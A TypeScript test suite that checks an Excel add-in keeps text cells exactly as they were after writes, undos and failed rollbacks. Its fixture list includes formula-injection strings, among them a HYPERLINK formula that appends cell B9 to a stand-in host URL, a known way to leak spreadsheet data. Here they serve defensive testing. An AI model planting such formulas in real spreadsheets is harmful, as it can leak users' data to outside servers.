/** Text stays text: whatever a cell of the team holds, a writing and its undo, or its rollback, give it back exactly. */
import type { GridCell } from '../../../../workbench/host/grid';
import type { PlannedCell, WritePlan, WriteStep } from '../../../../src/workbook/plan';
import { everythingIn, startExcel, valueOf, type StartedExcel } from '../../../support/excel/excel';
import { workbookOf } from '../../../support/excel/grid-workbook';

const TEXTS = [
  '=1+1',
  '=HYPERLINK("http://x/"&B9,"x")',
  '=',
  "'déjà",
  "''",
  '#N/A',
  '#REF!',
  '#12',
  '-12,5',
  '+33',
  '@x',
  '00123',
  'VRAI',
];

let excel: StartedExcel;
afterEach(() => excel.dispose());

function start(numberFormat?: string): void {
  const rows = TEXTS.map((value) => [numberFormat === undefined ? { value } : { value, numberFormat }]);
  excel = startExcel(workbookOf([{ name: 'Suivi', blocks: { A1: rows } }]));
}

async function column(): Promise<readonly Pick<GridCell, 'value' | 'formula'>[]> {
  await excel.host.settled();
  const cells = excel.grid.contents().sheets[0]?.cells ?? [];
  return TEXTS.map((_, row) => {
    const cell = cells.find((one) => one.row === row && one.column === 0);
    return { value: cell?.value ?? null, ...(cell?.formula !== undefined && { formula: cell.formula }) };
  });
}

const repaired = (cell: PlannedCell): WritePlan => {
  const step: WriteStep = { kind: 'setCells', sheet: 'Suivi', top: 0, left: 0, cells: TEXTS.map(() => [cell]) };
  return { purpose: 'repair', expected: [], steps: [step] };
};

test.each([undefined, '@'])('in cells of format %s, after a writing and its undo', async (format) => {
  start(format);
  for (const cell of [
    { value: 'PDE', style: 'repairedText' },
    { value: 5, style: 'repairedAmount' },
  ] as const) {
    const { undo } = valueOf(await excel.workbook.apply(repaired(cell)));
    expect(await column()).toEqual(TEXTS.map(() => ({ value: cell.value })));
    valueOf(await excel.workbook.apply(undo));
    expect(await column()).toEqual(TEXTS.map((value) => ({ value })));
  }
});

test.each([undefined, '@'])('in cells of format %s, after a writing that failed', async (format) => {
  start(format);
  const plan: WritePlan = {
    ...repaired({ value: 'PDE' }),
    steps: [...repaired({ value: 'PDE' }).steps, { kind: 'addSheet', sheet: 'Doc' }],
  };
  excel.host.faults.at(2, { kind: 'failAction', at: 8, code: 'GeneralException' });
  expect((await excel.workbook.apply(plan)).ok).toBe(false);
  expect(await column()).toEqual(TEXTS.map((value) => ({ value })));
});

test('numbers and formulas that got the text format afterwards are no text after a writing and its undo', async () => {
  const cells: GridCell[] = [{ value: 4242 }, { value: true }, { value: 3, formula: '=1+2' }, { value: '4242' }];
  const rows = cells.map((cell) => [{ ...cell, numberFormat: '@' }]);
  excel = startExcel(workbookOf([{ name: 'Suivi', blocks: { A1: rows } }]), { computes: true });
  const before = await everythingIn(excel);
  const step: WriteStep = {
    kind: 'setCells',
    sheet: 'Suivi',
    top: 0,
    left: 0,
    cells: cells.map(() => [{ value: 'x' }]),
  };
  const { undo } = valueOf(await excel.workbook.apply({ purpose: 'repair', expected: [], steps: [step] }));
  valueOf(await excel.workbook.apply(undo));
  expect(await everythingIn(excel)).toEqual(before);
});

test.each(['1', '=', "'"])('a text as long as a cell takes, which begins with %s', async (first) => {
  const value = first.padEnd(32_767, 'x');
  excel = startExcel(workbookOf([{ name: 'Suivi', blocks: { A1: [[{ value }]] } }]));
  const before = await everythingIn(excel);
  const plan: WritePlan = {
    ...{ purpose: 'repair', expected: [] },
    steps: [{ kind: 'setCells', sheet: 'Suivi', top: 0, left: 0, cells: [[{ value: 'PDE', style: 'repairedText' }]] }],
  };
  const { undo } = valueOf(await excel.workbook.apply(plan));
  valueOf(await excel.workbook.apply(undo));
  expect(await everythingIn(excel)).toEqual(before);
});

test.each([undefined, '@'])('a planned text, in cells of format %s', async (format) => {
  start(format);
  const cells = TEXTS.map((_, row): PlannedCell[] => [{ value: TEXTS[TEXTS.length - 1 - row] ?? null }]);
  const step: WriteStep = { kind: 'setCells', sheet: 'Suivi', top: 0, left: 0, cells };
  valueOf(await excel.workbook.apply({ purpose: 'repair', expected: [], steps: [step] }));
  expect(await column()).toEqual([...TEXTS].reverse().map((value) => ({ value })));
});
